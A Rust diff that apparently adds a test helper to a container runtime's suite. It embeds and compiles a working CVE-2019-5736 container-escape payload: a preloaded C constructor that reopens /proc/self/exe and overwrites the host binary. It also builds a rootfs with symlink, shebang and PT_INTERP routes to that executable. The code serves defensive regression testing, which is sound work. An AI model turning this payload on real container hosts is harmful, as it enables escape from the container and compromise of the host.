@@ -14,6 +14,7 @@ use std::fs;
 use std::io::Read;
 use std::os::unix::fs::{symlink, PermissionsExt};
 use std::path::{Path, PathBuf};
+use std::process::Command;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
 
@@ -464,6 +465,104 @@ pub fn read_all(fd: std::os::fd::OwnedFd) -> String {
     let mut s = String::new();
     std::io::Read::read_to_string(&mut std::fs::File::from(fd), &mut s).expect("read");
     s
+}
+
+/// The payload of [`make_exe_hostile`]: a constructor preloaded (`/etc/ld.so.preload`) into
+/// every dynamically linked program the container runs. The test roots' own programs are
+/// static (busybox, the probe), so only a host executable run inside through `/proc/self/exe`
+/// ever loads it. It appends what `/proc/self/exe` is to `/tmp/pwned`; with `PWN_WRITE` set
+/// it then does what CVE-2019-5736's exploit does: keeps an `O_PATH` fd on `/proc/self/exe`,
+/// forks a writer (a shell loop) that reopens it for writing once no process runs it any more
+/// (bounded: about 10 s) and overwrites it, and turns itself into `sleep` so that it stops
+/// running the binary.
+const EXE_PAYLOAD: &str = r##"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+__attribute__((constructor)) static void pwn(void) {
+  char exe[512] = {0};
+  if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) exe[0] = '?';
+  int m = open("/tmp/pwned", O_WRONLY | O_CREAT | O_APPEND, 0644);
+  if (m >= 0) { dprintf(m, "%s\n", exe); close(m); }
+  if (!getenv("PWN_WRITE")) _exit(42);
+  int fd = open("/proc/self/exe", O_PATH);
+  if (fork() == 0) {
+    /* The writer stops running the binary too (busybox's sh is static), keeping the fd. */
+    char cmd[256];
+    snprintf(cmd, sizeof cmd,
+             "i=0; while [ $i -lt 1000 ]; do (echo pwned > /proc/self/fd/%d) 2>/dev/null && exit 0;"
+             " sleep 0.01; i=$((i+1)); done; exit 1", fd);
+    execl("/bin/sh", "sh", "-c", cmd, (char *)0);
+    _exit(1);
+  }
+  execl("/bin/sleep", "sleep", "20", (char *)0);
+  _exit(43);
+}
+"##;
+
+/// Makes `rootfs` an image that tries CVE-2019-5736 on `host_exe` (the executable of the
+/// process that sets the container up: corral, or a program embedding the library): the
+/// shared libraries `host_exe` needs (as `ldd` lists them, with `ld_library_path`), the
+/// payload above in `/payload.so` listed in `/etc/ld.so.preload`, and every shape that reaches
+/// `/proc/self/exe` when a program is executed: `/evil` (a symlink to it), `/script` (its `#!`
+/// interpreter) and `/interp` (an ELF whose PT_INTERP it is). A host executable that runs in
+/// the container leaves `/tmp/pwned` in the root.
+pub fn make_exe_hostile(rootfs: &Path, host_exe: &Path, ld_library_path: Option<&str>) {
+    let mut ldd = Command::new("ldd");
+    ldd.arg(host_exe);
+    if let Some(p) = ld_library_path {
+        ldd.env("LD_LIBRARY_PATH", p);
+    }
+    let out = ldd.output().expect("run ldd");
+    let text = String::from_utf8_lossy(&out.stdout);
+    let mut libs = 0;
+    for word in text.split_whitespace().filter(|w| w.starts_with('/')) {
+        let src = Path::new(word);
+        let dst = rootfs.join(word.trim_start_matches('/'));
+        fs::create_dir_all(dst.parent().expect("lib dir")).expect("mkdir lib dir");
+        fs::copy(src, &dst).unwrap_or_else(|e| panic!("copy {word}: {e}"));
+        libs += 1;
+    }
+    assert!(
+        libs >= 2,
+        "ldd {} found no libraries: {text}",
+        host_exe.display()
+    );
+    let work = tempfile::tempdir().expect("tempdir");
+    let c = work.path().join("payload.c");
+    fs::write(&c, EXE_PAYLOAD).expect("write payload.c");
+    let cc = |args: &[&str]| {
+        let out = Command::new("cc").args(args).output().expect("run cc");
+        assert!(
+            out.status.success(),
+            "cc {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    let so = rootfs.join("payload.so");
+    cc(&[
+        "-shared",
+        "-fPIC",
+        "-o",
+        &so.to_string_lossy(),
+        &c.to_string_lossy(),
+    ]);
+    fs::write(rootfs.join("etc/ld.so.preload"), "/payload.so\n").expect("ld.so.preload");
+    symlink("/proc/self/exe", rootfs.join("evil")).expect("symlink /evil");
+    let script = rootfs.join("script");
+    fs::write(&script, "#!/proc/self/exe\n").expect("write /script");
+    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("chmod /script");
+    let m = work.path().join("main.c");
+    fs::write(&m, "int main(void) { return 0; }\n").expect("write main.c");
+    let interp = rootfs.join("interp");
+    cc(&[
+        "-o",
+        &interp.to_string_lossy(),
+        &m.to_string_lossy(),
+        "-Wl,--dynamic-linker=/proc/self/exe",
+    ]);
 }
 
 #[cfg(test)]
